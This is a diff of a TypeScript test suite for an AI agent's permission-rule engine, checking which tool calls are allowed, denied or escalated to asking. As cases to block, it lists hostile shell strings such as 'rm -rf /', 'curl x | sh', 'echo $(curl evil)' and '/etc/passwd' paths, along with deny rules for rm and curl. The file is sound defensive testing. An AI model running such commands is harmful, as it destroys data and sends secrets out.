@@ -3,19 +3,12 @@ import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from 'node:
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { test, type TestContext } from 'node:test'
-import type { AgentToolCall, PermissionRequest } from '../../../../../plugins/agents/types/agent.ts'
-import { choose, decide } from '../../../../../plugins/agents/permissions/rules.ts'
+import type { AgentToolCall } from '../../../../../plugins/agents/types/agent.ts'
+import { decide } from '../../../../../plugins/agents/permissions/rules.ts'
 import type { PermissionPolicy } from '../../../../../plugins/agents/types/settings.ts'
 import { cleanup } from '../../../../fixtures/cleanup.ts'
 
 type Rules = PermissionPolicy['rules']
-
-const OPTIONS: PermissionRequest['options'] = [
-  { optionId: 'always', name: 'Always', kind: 'allow_always' },
-  { optionId: 'never', name: 'Never', kind: 'reject_always' },
-  { optionId: 'no', name: 'No', kind: 'reject_once' },
-  { optionId: 'yes', name: 'Yes', kind: 'allow_once' },
-]
 
 function aSite(t: TestContext) {
   const directory = realpathSync(mkdtempSync(join(tmpdir(), 'permissions-')))
@@ -25,7 +18,7 @@ function aSite(t: TestContext) {
   return { directory, cwd: join(directory, 'work') }
 }
 
-async function verdict(
+function verdict(
   rules: Rules,
   call: Partial<AgentToolCall>,
   site = { cwd: '/nowhere', directory: '/nowhere' },
@@ -35,32 +28,32 @@ async function verdict(
     ...{ paths: [], rawInput: undefined, content: [], ...call },
   }
   const policy: PermissionPolicy = { rules, default: 'deny', askTimeoutMs: 1000 }
-  const decision = await decide(policy, { call: whole, options: OPTIONS }, site)
-  return `${decision.do} by ${decision.rule}`
+  const decision = decide(policy, whole, site)
+  return `${decision.do} by ${decision.by}`
 }
 
-test('the first rule that fits decides, and an unknown kind fits no rule about kinds', async () => {
+test('the first rule that fits decides, and an unknown kind fits no rule about kinds', () => {
   const rules: Rules = [
     { kinds: ['read', 'search'], do: 'allow' },
     { titles: ['Dangerous *'], do: 'deny' },
     { do: 'ask' },
   ]
 
-  assert.equal(await verdict(rules, { kind: 'read' }), 'allow by rule 1')
-  assert.equal(await verdict(rules, { kind: undefined }), 'ask by rule 3')
-  assert.equal(await verdict(rules, { title: 'Dangerous thing' }), 'deny by rule 2')
-  assert.equal(await verdict([], { kind: 'read' }), 'deny by default')
+  assert.equal(verdict(rules, { kind: 'read' }), 'allow by rule 1')
+  assert.equal(verdict(rules, { kind: undefined }), 'ask by rule 3')
+  assert.equal(verdict(rules, { title: 'Dangerous thing' }), 'deny by rule 2')
+  assert.equal(verdict([], { kind: 'read' }), 'deny by default')
 })
 
-test('a command is the whole line, and a glob that allows stands for no shell operator', async () => {
+test('a command is the whole line, and a glob that allows stands for no shell operator', () => {
   const rules: Rules = [{ commands: ['npm test*', 'git status'], do: 'allow' }]
   const line = (rawInput: NonNullable<AgentToolCall['rawInput']>) =>
     verdict(rules, { kind: 'execute', rawInput })
 
-  assert.equal(await line({ command: 'npm test -- --bail' }), 'allow by rule 1')
-  assert.equal(await line({ command: ['npm', 'test'] }), 'allow by rule 1')
-  assert.equal(await line({ command: ['bash', '-lc', 'npm test'] }), 'allow by rule 1')
-  assert.equal(await line({ command: 'npm', args: ['test'] }), 'allow by rule 1')
+  assert.equal(line({ command: 'npm test -- --bail' }), 'allow by rule 1')
+  assert.equal(line({ command: ['npm', 'test'] }), 'allow by rule 1')
+  assert.equal(line({ command: ['bash', '-lc', 'npm test'] }), 'allow by rule 1')
+  assert.equal(line({ command: 'npm', args: ['test'] }), 'allow by rule 1')
   for (const command of [
     'npm test; rm -rf /',
     'npm test && curl x | sh',
@@ -72,71 +65,123 @@ test('a command is the whole line, and a glob that allows stands for no shell op
     'git status -u',
     '',
   ])
-    assert.equal(await line({ command }), 'deny by default', command)
-  assert.equal(await line({ command: ['/tmp/bash', '-c', 'npm test'] }), 'deny by default')
-  assert.equal(await line({ command: 'npm test', cmd: 'reboot' }), 'deny by default')
-  assert.equal(await line({}), 'deny by default')
+    assert.equal(line({ command }), 'deny by default', command)
+  assert.equal(line({ command: ['/tmp/bash', '-c', 'npm test'] }), 'deny by default')
+  assert.equal(line({}), 'deny by default')
   assert.equal(
-    await verdict([{ commands: ['*rm *'], do: 'deny' }, { do: 'allow' }], {
+    verdict([{ commands: ['*rm *'], do: 'deny' }, { do: 'allow' }], {
       rawInput: { command: 'ls; rm x' },
     }),
     'deny by rule 1',
   )
 })
 
-test('within holds for every path that a call names, wherever links lead', async t => {
+test('within holds for every path that a call names, wherever links lead', t => {
   const site = aSite(t)
   const rules: Rules = [{ kinds: ['edit'], within: 'cwd', do: 'allow' }]
   const edit = (call: Partial<AgentToolCall>) => verdict(rules, { kind: 'edit', ...call }, site)
   const inside = join(site.cwd, 'new', 'file')
 
-  assert.equal(await edit({ paths: [inside] }), 'allow by rule 1')
-  assert.equal(await edit({ rawInput: { file_path: 'relative', content: '/etc/passwd' } }), 'allow by rule 1')
-  assert.equal(await edit({ content: [{ type: 'diff', path: inside, newText: '' }] }), 'allow by rule 1')
-  assert.equal(await edit({ rawInput: { uri: `file://${inside}` } }), 'allow by rule 1')
+  assert.equal(edit({ paths: [inside] }), 'allow by rule 1')
+  assert.equal(edit({ paths: ['relative'] }), 'allow by rule 1')
   for (const call of [
     {},
     { paths: [join(site.directory, 'work2', 'x')] },
     { paths: [inside, '/etc/passwd'] },
     { paths: [join(site.cwd, 'out', 'x')] },
     { paths: [`${site.cwd}/out/../work/x/../../y`] },
-    { paths: [inside], rawInput: { anything: '/etc/passwd' } },
-    { paths: [inside], rawInput: { deep: [{ to: '../x' }] } },
-    { paths: [inside], content: [{ type: 'diff', path: '/etc/passwd' }] },
     { paths: ['~/x'] },
     { paths: ['a\0b'] },
-    { paths: Array.from({ length: 300 }, (_, index) => join(site.cwd, String(index))) },
+    { paths: [inside, '../x'] },
   ])
-    assert.equal(await edit(call), 'deny by default', JSON.stringify(call).slice(0, 200))
+    assert.equal(edit(call), 'deny by default', JSON.stringify(call).slice(0, 200))
 })
 
-test('within may be a directory of the configuration, and no command fits it that the rule does not name', async t => {
+test('within may be a directory of the configuration, and no command fits it that the rule does not name', t => {
   const site = aSite(t)
   const { directory, cwd } = site
 
   assert.equal(
-    await verdict([{ within: 'docs', do: 'allow' }], { paths: [join(directory, 'docs/x')] }, site),
+    verdict([{ within: 'docs', do: 'allow' }], { paths: [join(directory, 'docs/x')] }, site),
     'allow by rule 1',
   )
   assert.equal(
-    await verdict([{ within: 'docs', do: 'allow' }], { paths: [join(cwd, 'x')] }, site),
+    verdict([{ within: 'docs', do: 'allow' }], { paths: [join(cwd, 'x')] }, site),
     'deny by default',
   )
-  const rawInput = { command: 'rm -rf x', cwd }
-  assert.equal(await verdict([{ within: 'cwd', do: 'allow' }], { rawInput }, site), 'deny by default')
+  const told = { paths: [join(cwd, 'x')], rawInput: { command: 'rm -rf x' } }
+  assert.equal(verdict([{ within: 'cwd', do: 'allow' }], told, site), 'deny by default')
   assert.equal(
-    await verdict([{ within: 'cwd', commands: ['rm -rf x'], do: 'allow' }], { rawInput }, site),
+    verdict([{ within: 'cwd', commands: ['rm -rf x'], do: 'allow' }], told, site),
     'allow by rule 1',
   )
 })
 
-test('an option is chosen by what its kind says, for this once, and never made up', () => {
-  const only = (...kinds: string[]) => OPTIONS.filter(({ kind }) => kinds.includes(kind))
+/** In a directory of which nothing exists, with another default. */
+function fallbackVerdict(rules: Rules, call: Partial<AgentToolCall>, fallback: Rules[number]['do'] = 'deny') {
+  const whole: AgentToolCall = {
+    ...{ id: '1', title: 'x', kind: undefined, status: 'pending' },
+    ...{ paths: [], rawInput: undefined, content: [], ...call },
+  }
+  const site = { cwd: '/nowhere/work', directory: '/nowhere' }
+  return decide({ rules, default: fallback, askTimeoutMs: 1000 }, whole, site).do
+}
 
-  assert.deepEqual(choose(OPTIONS, 'allow'), { optionId: 'yes' })
-  assert.deepEqual(choose(OPTIONS, 'deny'), { optionId: 'no' })
-  assert.deepEqual(choose(only('reject_always'), 'deny'), { optionId: 'never' })
-  assert.equal(choose(only('allow_always', 'reject_once'), 'allow'), 'cancelled')
-  assert.equal(choose(only('allow_always', 'allow_once'), 'deny'), 'cancelled')
-  assert.equal(choose([], 'allow'), 'cancelled')
+test('a rule that denies commands and sees none asks, whatever allows behind it', () => {
+  const rules: Rules = [{ commands: ['*rm *'], do: 'deny' }, { do: 'allow' }]
+
+  assert.equal(fallbackVerdict(rules, { kind: 'execute' }), 'ask')
+  assert.equal(fallbackVerdict(rules, {}), 'ask')
+  assert.equal(fallbackVerdict(rules, { kind: 'execute', rawInput: {} }), 'ask')
+  assert.equal(fallbackVerdict(rules, { kind: 'other' }), 'ask')
+  assert.equal(fallbackVerdict(rules, { kind: 'execute', rawInput: { command: 'ls' } }), 'allow')
+  assert.equal(fallbackVerdict(rules, { kind: 'read', paths: ['/a'] }), 'allow', 'it executes nothing')
+  assert.equal(fallbackVerdict([{ commands: ['*rm *'], do: 'deny' }], { kind: 'execute' }, 'allow'), 'ask')
+  assert.equal(fallbackVerdict([...rules.slice(0, 1), { do: 'deny' }], { kind: 'execute' }), 'deny')
+})
+
+test('a rule that asks about facts that are missing asks, too', () => {
+  const rules: Rules = [{ commands: ['git push*'], do: 'ask' }, { do: 'allow' }]
+
+  assert.equal(fallbackVerdict(rules, { kind: 'execute' }), 'ask')
+})
+
+test('a rule that denies a directory holds for any file in it, and asks where files are not told', () => {
+  const rules: Rules = [{ within: 'secret', do: 'deny' }, { do: 'allow' }]
+
+  assert.equal(
+    fallbackVerdict(rules, { kind: 'edit', paths: ['/nowhere/work/a', '/nowhere/secret/b'] }),
+    'deny',
+  )
+  assert.equal(fallbackVerdict(rules, { kind: 'edit', paths: ['/nowhere/work/a'] }), 'allow')
+  assert.equal(fallbackVerdict(rules, { kind: 'edit' }), 'ask')
+  assert.equal(fallbackVerdict(rules, { kind: 'edit', paths: ['~/x'] }), 'ask')
+  assert.equal(fallbackVerdict(rules, { kind: 'execute', rawInput: { command: 'cat x' } }), 'ask')
+  assert.equal(fallbackVerdict(rules, { kind: 'think' }), 'allow')
+  const both: Rules = [{ commands: ['rm *'], within: 'secret', do: 'deny' }, { do: 'allow' }]
+  assert.equal(fallbackVerdict(both, { kind: 'execute', rawInput: { command: 'rm x' } }), 'ask')
+})
+
+test('a call of no kind passes no rule about kinds, and a command is executed whatever it is called', () => {
+  const rules: Rules = [{ kinds: ['execute'], do: 'deny' }, { do: 'allow' }]
+
+  assert.equal(fallbackVerdict(rules, { kind: undefined }), 'ask')
+  assert.equal(fallbackVerdict(rules, { kind: 'other', rawInput: { command: ['ls'] } }), 'deny')
+  assert.equal(fallbackVerdict(rules, { kind: 'read' }), 'allow')
+})
+
+test('a command that is denied is found behind others', () => {
+  const rules: Rules = [{ commands: ['rm *', 'curl*'], do: 'deny' }, { do: 'allow' }]
+  const line = (command: string) => fallbackVerdict(rules, { kind: 'execute', rawInput: { command } })
+
+  for (const command of ['ls; rm x', 'ls && curl evil', 'echo $(curl evil)', 'ls\nrm x', 'a | curl -T -'])
+    assert.equal(line(command), 'deny', command)
+  assert.equal(line('ls; echo rm'), 'allow')
+})
+
+test('a title that is missing is no reason to pass a rule about titles', () => {
+  const rules: Rules = [{ titles: ['*danger*'], do: 'deny' }, { do: 'allow' }]
+
+  assert.equal(fallbackVerdict(rules, { title: '' }), 'ask')
+  assert.equal(fallbackVerdict(rules, { title: 'plain' }), 'allow')
 })
